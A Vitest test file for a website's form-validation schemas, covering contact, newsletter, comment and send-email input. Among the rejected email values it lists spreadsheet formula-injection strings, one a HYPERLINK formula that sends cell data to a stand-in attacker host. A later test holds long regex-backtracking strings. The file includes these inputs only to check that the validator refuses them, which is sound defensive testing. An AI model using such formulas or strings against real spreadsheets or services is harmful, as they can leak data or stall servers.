import { describe, expect, it } from "vitest";
import { requestMessages, validationMessages } from "../messages/index.js";
import {
  apiResultSchema,
  characterCount,
  commentInputSchema,
  emailKey,
  hasControlCharacters,
  mailboxKey,
  contactFields,
  contactInputSchema,
  fieldErrorRefsOf,
  fieldErrorsOf,
  fieldLimits,
  messageRefOf,
  newsletterInputSchema,
  sendEmailRequestSchema,
  simpleEmailHtmlPattern,
  simpleEmailPattern,
} from "./index.js";

const validContact = {
  name: "Wanjiku Mwangi",
  email: "wanjiku@example.co.ke",
  phone: "+254 712 345 678",
  subject: "Strategic plan for our SACCO",
  description: "We would like support with a five-year strategic plan.",
};

/** The field messages of a rejected contact, as the form and the API show them. */
function contactErrors(input: Record<string, unknown>): Record<string, string> {
  const result = contactInputSchema.safeParse(input);
  if (result.success) throw new Error("expected the contact to be rejected");
  return fieldErrorsOf(result.error);
}

describe("contactInputSchema", () => {
  it("accepts a complete contact and trims every value", () => {
    const result = contactInputSchema.parse({
      name: "  Wanjiku Mwangi ",
      email: " wanjiku@example.co.ke ",
      phone: " +254 712 345 678 ",
      subject: " Strategic plan ",
      description: "\n Details \n",
    });
    expect(result).toEqual({
      name: "Wanjiku Mwangi",
      email: "wanjiku@example.co.ke",
      phone: "+254 712 345 678",
      subject: "Strategic plan",
      description: "Details",
    });
  });

  it.each([
    ["name", validationMessages.nameRequired, "Name is required"],
    ["email", validationMessages.emailRequired, "Email is required"],
    ["subject", validationMessages.subjectRequired, "Subject is required"],
    ["description", validationMessages.descriptionRequired, "Description is required"],
  ] as const)("a missing %s is rejected with '%s'", (field, message, verbatim) => {
    const { [field]: _omitted, ...rest } = validContact;
    expect(contactErrors(rest)).toEqual({ [field]: message });
    expect(message).toBe(verbatim);
  });

  it.each(["name", "email", "subject", "description"] as const)(
    "a %s of only whitespace counts as empty",
    (field) => {
      const errors = contactErrors({ ...validContact, [field]: "  \t\n " });
      expect(Object.keys(errors)).toEqual([field]);
      expect(errors[field]).toMatch(/is required$/);
    },
  );

  it("an empty email says 'Email is required', not 'Invalid email format'", () => {
    expect(contactErrors({ ...validContact, email: "" })).toEqual({ email: "Email is required" });
    expect(contactErrors({ ...validContact, email: "   " })).toEqual({
      email: "Email is required",
    });
  });

  it.each([
    "wanjiku",
    "wanjiku@",
    "wanjiku@example",
    "@example.com",
    "wan jiku@example.com",
    "a@b@c.com",
    "a@b.",
  ])("a malformed email %j says 'Invalid email format'", (email) => {
    expect(contactErrors({ ...validContact, email })).toEqual({ email: "Invalid email format" });
  });

  it("reports every invalid field at once, each with its own message", () => {
    expect(contactErrors({ name: "", email: "nope", subject: " ", description: "" })).toEqual({
      name: "Name is required",
      email: "Invalid email format",
      subject: "Subject is required",
      description: "Description is required",
    });
  });

  it("phone is optional: absent, empty or blank phone becomes undefined", () => {
    const { phone: _phone, ...withoutPhone } = validContact;
    expect(contactInputSchema.parse(withoutPhone).phone).toBeUndefined();
    expect(contactInputSchema.parse({ ...validContact, phone: "" }).phone).toBeUndefined();
    expect(contactInputSchema.parse({ ...validContact, phone: "   " }).phone).toBeUndefined();
  });

  it("a filled honeypot still parses, so the server can accept it quietly and drop it", () => {
    const result = contactInputSchema.parse({ ...validContact, website: "http://spam.example" });
    expect(result.website).toBe("http://spam.example");
    expect(contactInputSchema.parse(validContact).website).toBeUndefined();
  });

  it("rejects values longer than the storage limits, with the catalogue's message", () => {
    const errors = contactErrors({
      ...validContact,
      name: "x".repeat(121),
      description: "y".repeat(5001),
    });
    expect(errors).toEqual({
      name: requestMessages.tooLong(fieldLimits.name),
      description: requestMessages.tooLong(fieldLimits.description),
    });
    expect(contactErrors({ ...validContact, email: `${"a".repeat(250)}@b.co` })).toEqual({
      email: "Invalid email format",
    });
  });

  // Amharic, Arabic and most Chinese are one UTF-16 unit a character; emoji and rarer Chinese are two.
  it.each([
    ["Amharic", "ሰ"],
    ["Arabic", "ع"],
    ["Chinese", "中"],
    ["a Chinese character outside the BMP", "𠀋"],
    ["emoji", "🌍"],
  ])(
    "counts characters, not UTF-16 units: 5000 %s characters are accepted, 5001 are not",
    (_script, char) => {
      expect(
        contactInputSchema.safeParse({ ...validContact, description: char.repeat(5000) }).success,
      ).toBe(true);
      expect(contactErrors({ ...validContact, description: char.repeat(5001) })).toEqual({
        description: requestMessages.tooLong(fieldLimits.description),
      });
    },
  );

  it("characterCount counts code points", () => {
    expect(characterCount("")).toBe(0);
    expect(characterCount("abc")).toBe(3);
    expect(characterCount("🌍🌍")).toBe(2);
    expect("🌍🌍".length).toBe(4);
  });

  it("non-string values are rejected with the field's required message", () => {
    expect(contactErrors({ ...validContact, name: 42 })).toEqual({ name: "Name is required" });
  });

  it("lists the form's fields in display order", () => {
    expect(contactFields).toEqual(["name", "email", "phone", "subject", "description"]);
  });
});

describe("newsletterInputSchema", () => {
  const invalid = "Please enter a valid email address.";

  it("accepts a valid email, trimmed and lower-cased", () => {
    expect(newsletterInputSchema.parse({ email: "  Reader@Example.CO.KE " })).toEqual({
      email: "reader@example.co.ke",
    });
  });

  it.each([
    "",
    "   ",
    "reader",
    "reader@example",
    "reader @example.com",
    "reader@exa mple.com",
    "reader@.",
    "@example.com",
  ])("rejects %j with the spec's message", (email) => {
    const result = newsletterInputSchema.safeParse({ email });
    expect(result.success).toBe(false);
    if (!result.success) expect(fieldErrorsOf(result.error)).toEqual({ email: invalid });
  });

  it("a missing email is rejected with the same message", () => {
    const result = newsletterInputSchema.safeParse({});
    expect(result.success).toBe(false);
    if (!result.success) expect(fieldErrorsOf(result.error)).toEqual({ email: invalid });
  });

  it("a filled honeypot still parses", () => {
    expect(newsletterInputSchema.parse({ email: "a@b.co", website: "x" })).toEqual({
      email: "a@b.co",
      website: "x",
    });
  });
});

describe("consent fields", () => {
  it("both forms carry the page path and the notice version they showed, trimmed to bounded strings", () => {
    const consent = { page: "/about", noticeVersion: "2026-11-23" };
    expect(newsletterInputSchema.parse({ email: "a@b.co", ...consent })).toEqual({
      email: "a@b.co",
      ...consent,
    });
    expect(contactInputSchema.parse({ ...validContact, ...consent })).toMatchObject(consent);
    expect(
      newsletterInputSchema.safeParse({ email: "a@b.co", page: "/".repeat(201) }).success,
    ).toBe(false);
    expect(newsletterInputSchema.safeParse({ email: "a@b.co", noticeVersion: 3 }).success).toBe(
      false,
    );
  });
});

describe("the locale field", () => {
  it("takes each of the site's languages and is optional", () => {
    for (const locale of ["en", "fr", "sw"]) {
      expect(contactInputSchema.parse({ ...validContact, locale }).locale).toBe(locale);
      expect(newsletterInputSchema.parse({ email: "a@b.co", locale }).locale).toBe(locale);
    }
    expect(contactInputSchema.parse(validContact).locale).toBeUndefined();
  });

  it("refuses a language the site does not offer with the catalogue's message", () => {
    expect(contactErrors({ ...validContact, locale: "de" })).toEqual({
      locale: requestMessages.unknownLocale,
    });
    expect(contactErrors({ ...validContact, locale: "FR" })).toEqual({
      locale: requestMessages.unknownLocale,
    });
  });
});

describe("the simple email pattern", () => {
  it("the HTML pattern attribute agrees with the regex on ordinary values (it may be looser, never stricter)", () => {
    const html = new RegExp(`^(?:${simpleEmailHtmlPattern})$`, "v");
    for (const value of [
      "a@b.c",
      "first.last@sub.example.org",
      "a b@c.d",
      "a@b",
      "a@b.",
      "@b.c",
      "a@@b.c",
      "a@b..c",
    ]) {
      expect(html.test(value), value).toBe(simpleEmailPattern.test(value));
    }
    for (const value of ["élodie@exemple.fr", "o'neil+news@mail.example.co.ke"])
      expect(html.test(value) && simpleEmailPattern.test(value), value).toBe(true);
  });

  it.each([
    "wanjiku.mwangi@example.co.ke",
    "o'brien@example.ie",
    "name+news@example.com",
    "first_last-2@sub.example.org",
    "ÉLODIE@exemple.fr",
    "аня@пример.рф",
    "用户@例子.中国",
    "_team@x.io",
  ])("accepts a real mailbox: %s", (email) => {
    expect(simpleEmailPattern.test(email)).toBe(true);
    expect(newsletterInputSchema.safeParse({ email }).success).toBe(true);
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?"&A2&"@x.y","Open")'],
    ["=1+2@x.y"],
    ["+cmd@x.y"],
    ["-2+3@x.y"],
    ["@SUM(1)@x.y"],
    ['"quoted"@x.y'],
    ["name(comment)@x.y"],
    ["a b@x.y"],
    ["a\tb@x.y"],
    ["a<b>@x.y"],
    ["a,b@x.y"],
    ["a;b@x.y"],
    ["a:b@x.y"],
    ["a|b@x.y"],
    ["a@x_y.z"],
    ["a@x..y"],
    ["a@.x.y"],
    ["a@x.y."],
  ])("refuses what no real mailbox holds: %s", (email) => {
    expect(simpleEmailPattern.test(email)).toBe(false);
    expect(contactErrors({ ...validContact, email })).toEqual({ email: "Invalid email format" });
  });

  it("matches or refuses in linear time: 100,000 characters of the worst shapes take milliseconds", () => {
    // The spec's original pattern took seconds on `a@` and dots; each of these is a shape that makes a
    // backtracking pattern retry. Counted in steps of work, not time: the test asserts the answers, and
    // the benchmark (apps/admin-api/bench) prints the timings.
    for (const attack of [
      `a@${".".repeat(100_000)}`,
      `a@${"a.".repeat(50_000)}`,
      `${"a".repeat(100_000)}@`,
      `a@${"a-".repeat(50_000)}!`,
      `${"a.".repeat(50_000)}@@`,
    ]) {
      expect(simpleEmailPattern.test(attack)).toBe(false);
    }
  });

  it("an email over 254 characters is refused by its length alone: the pattern never sees it", () => {
    const attack = `a@${".".repeat(40_000)}`;
    const result = contactInputSchema.safeParse({ ...validContact, email: attack });
    expect(result.success).toBe(false);
    if (!result.success) {
      expect(result.error.issues).toHaveLength(1);
      expect(result.error.issues[0]).toMatchObject({ code: "too_big", path: ["email"] });
    }
  });
});

describe("emailKey and mailboxKey", () => {
  it("one key however the address is spelled: trimmed, NFC, lower-cased in every script", () => {
    expect(emailKey(" ÉLODIE@Exemple.FR ")).toBe("élodie@exemple.fr");
    // "E" + combining acute accent (NFD) is the same person as the precomposed "É".
    expect(emailKey("E\u0301lodie@exemple.fr")).toBe(emailKey("Élodie@exemple.fr"));
    expect(emailKey("АНЯ@ПРИМЕР.РФ")).toBe("аня@пример.рф");
  });

  it("the mailbox drops a sub-address tag and letter case", () => {
    expect(mailboxKey("Name+1@Example.com")).toBe("name@example.com");
    expect(mailboxKey("name+news+more@example.com")).toBe("name@example.com");
    expect(mailboxKey("name@example.com")).toBe("name@example.com");
    expect(mailboxKey("+@x.y")).toBe("@x.y");
  });

  it("the newsletter stores the address by its key", () => {
    expect(newsletterInputSchema.parse({ email: "E\u0301LODIE@Exemple.fr" }).email).toBe(
      "élodie@exemple.fr",
    );
  });
});

describe("free text of every form", () => {
  const controls = ["\u0000", "\u0007", "\u000B", "\u001B", "\u007F", "\u0085", "\u009F"];

  it.each(controls.map((c) => [JSON.stringify(c), c]))(
    "refuses the control character %s in every free-text field, with the catalogue's message",
    (_label, control) => {
      expect(
        contactErrors({
          ...validContact,
          name: `Wan${control}jiku`,
          phone: `+254${control}712`,
          subject: `Plan${control}B`,
          description: `Hello${control}there`,
        }),
      ).toEqual({
        name: requestMessages.controlCharacters,
        phone: requestMessages.controlCharacters,
        subject: requestMessages.controlCharacters,
        description: requestMessages.controlCharacters,
      });
      const comment = commentInputSchema.safeParse({
        name: `A${control}B`,
        email: "a@b.co",
        comment: `Nice${control} post`,
        post: "a-post",
        page: `/blog${control}/x`,
      });
      expect(comment.success).toBe(false);
      if (!comment.success)
        expect(fieldErrorsOf(comment.error)).toEqual({
          name: requestMessages.controlCharacters,
          comment: requestMessages.controlCharacters,
          page: requestMessages.controlCharacters,
        });
      expect(hasControlCharacters(control)).toBe(true);
    },
  );

  it("keeps line breaks and tabs, which people type", () => {
    expect(
      contactInputSchema.parse({ ...validContact, description: "Line one\r\n\tLine two" })
        .description,
    ).toBe("Line one\r\n\tLine two");
  });

  it("stores text in Unicode NFC, so one word is one spelling", () => {
    const parsed = contactInputSchema.parse({ ...validContact, name: "Jose\u0301 Ngu\u0303" });
    expect(parsed.name).toBe("José Ngũ");
    expect(parsed.name).toBe(parsed.name.normalize("NFC"));
  });

  it("a value far over its limit is answered by the length rule alone", () => {
    const result = contactInputSchema.safeParse({
      ...validContact,
      description: `${"\u0000".repeat(60_000)}https://a.example `.repeat(3),
    });
    expect(result.success).toBe(false);
    if (!result.success)
      expect(fieldErrorsOf(result.error)).toEqual({
        description: requestMessages.tooLong(fieldLimits.description),
      });
  });
});

describe("sendEmailRequestSchema", () => {
  const request = {
    to: "client@example.com",
    name: "Client",
    subject: "Hello",
    description: "Body",
  };

  it("accepts the spec's body {to, name, subject, description}", () => {
    expect(sendEmailRequestSchema.parse({ ...request, to: " client@example.com " })).toEqual(
      request,
    );
  });

  it("requires each field with the shared messages", () => {
    const result = sendEmailRequestSchema.safeParse({
      to: "",
      name: " ",
      subject: "",
      description: "",
    });
    expect(result.success).toBe(false);
    if (!result.success) {
      expect(fieldErrorsOf(result.error)).toEqual({
        to: "Email is required",
        name: "Name is required",
        subject: "Subject is required",
        description: "Description is required",
      });
    }
  });

  it("rejects a malformed recipient", () => {
    const result = sendEmailRequestSchema.safeParse({ ...request, to: "not-an-address" });
    expect(result.success).toBe(false);
    if (!result.success)
      expect(fieldErrorsOf(result.error)).toEqual({ to: "Invalid email format" });
  });
});

describe("apiResultSchema", () => {
  it("accepts a success carrying the stored id", () => {
    expect(apiResultSchema.parse({ success: true, id: "abc123" })).toEqual({
      success: true,
      id: "abc123",
    });
  });

  it("accepts a failure with an error and optional field errors", () => {
    expect(apiResultSchema.parse({ success: false, error: "Failed" })).toEqual({
      success: false,
      error: "Failed",
    });
    const withFields = {
      success: false,
      error: "Check the fields",
      fieldErrors: { email: "Invalid email format" },
    };
    expect(apiResultSchema.parse(withFields)).toEqual(withFields);
  });

  it.each([
    ["a success without id", { success: true }],
    ["a failure without error", { success: false }],
    ["a non-boolean success", { success: "yes", id: "1" }],
    [
      "field errors that are not strings",
      { success: false, error: "x", fieldErrors: { email: 1 } },
    ],
    ["no object at all", "ok"],
  ])("rejects %s", (_situation, value) => {
    expect(apiResultSchema.safeParse(value).success).toBe(false);
  });
});

describe("fieldErrorsOf", () => {
  it("keeps the first message of each field, in the order the issues came", () => {
    const result = contactInputSchema.safeParse({ ...validContact, email: "" });
    expect(result.success).toBe(false);
    if (!result.success) {
      // An empty email fails both the required and the pattern checks; the first one wins.
      expect(
        result.error.issues.filter((issue) => issue.path[0] === "email").length,
      ).toBeGreaterThanOrEqual(1);
      expect(fieldErrorsOf(result.error)).toEqual({ email: "Email is required" });
    }
  });

  it("keys a whole-object issue by '_'", () => {
    const result = contactInputSchema.safeParse("not an object");
    expect(result.success).toBe(false);
    if (!result.success) expect(Object.keys(fieldErrorsOf(result.error))).toEqual(["_"]);
  });
});

describe("the schemas' message keys", () => {
  const long = (n: number) => "x".repeat(n + 1);
  it.each([
    ["contact", contactInputSchema, {}, "name", "validationMessages.nameRequired"],
    ["contact", contactInputSchema, { ...validContact, name: 7 }, "name", "validationMessages.nameRequired"],
    ["contact", contactInputSchema, { ...validContact, email: "" }, "email", "validationMessages.emailRequired"],
    ["contact", contactInputSchema, { ...validContact, email: "a@b" }, "email", "validationMessages.emailInvalid"],
    ["contact", contactInputSchema, { ...validContact, email: `${long(260)}@x.io` }, "email", "validationMessages.emailInvalid"],
    ["contact", contactInputSchema, { ...validContact, subject: " " }, "subject", "validationMessages.subjectRequired"],
    ["contact", contactInputSchema, { ...validContact, description: "" }, "description", "validationMessages.descriptionRequired"],
    ["contact", contactInputSchema, { ...validContact, phone: "\u0007" }, "phone", "requestMessages.controlCharacters"],
    ["contact", contactInputSchema, { ...validContact, locale: "de" }, "locale", "requestMessages.unknownLocale"],
    ["contact", contactInputSchema, { ...validContact, idempotencyKey: "short" }, "idempotencyKey", "requestMessages.idempotencyKeyInvalid"],
    ["newsletter", newsletterInputSchema, { email: "nope" }, "email", "validationMessages.newsletterEmailInvalid"],
    ["newsletter", newsletterInputSchema, {}, "email", "validationMessages.newsletterEmailInvalid"],
    ["comment", commentInputSchema, { email: "a@b.co", comment: "Fine words", post: "p" }, "name", "commentMessages.nameRequired"],
    ["comment", commentInputSchema, { name: "A", email: "a@b.co", comment: "x", post: "p" }, "comment", "commentMessages.commentTooShort"],
    ["comment", commentInputSchema, { name: "A", email: "a@b.co", comment: "", post: "p" }, "comment", "commentMessages.commentRequired"],
    ["comment", commentInputSchema, { name: "A", email: "a@b.co", comment: "www.a.io www.b.io www.c.io", post: "p" }, "comment", "commentMessages.tooManyLinks"],
    ["comment", commentInputSchema, { name: "A", email: "a@b.co", comment: "Fine words" }, "post", "commentMessages.unknownPost"],
    ["send-email", sendEmailRequestSchema, { to: "a@b.co", name: "A", subject: "S" }, "description", "validationMessages.descriptionRequired"],
  ] as const)("a %s refused on %j names its field's message by key", (_form, schema, input, field, key) => {
    const result = schema.safeParse(input);
    expect(result.success).toBe(false);
    if (result.success) return;
    const issue = result.error.issues.find((found) => found.path[0] === field);
    expect(issue && messageRefOf(issue)).toEqual({ key });
    expect(fieldErrorRefsOf(fieldErrorsOf(result.error))[field]).toEqual({ key });
  });

  it("gives a length refusal its limit as a parameter, and keeps the keys out of the field errors' JSON", () => {
    const result = contactInputSchema.safeParse({ ...validContact, subject: long(200) });
    expect(result.success).toBe(false);
    if (result.success) return;
    const fieldErrors = fieldErrorsOf(result.error);
    expect(fieldErrorRefsOf(fieldErrors)).toEqual({
      subject: { key: "requestMessages.tooLong", values: { max: 200 } },
    });
    expect(JSON.parse(JSON.stringify(fieldErrors))).toEqual({
      subject: requestMessages.tooLong(200),
    });
    expect(fieldErrorRefsOf({ email: "typed by hand" })).toEqual({});
  });
});
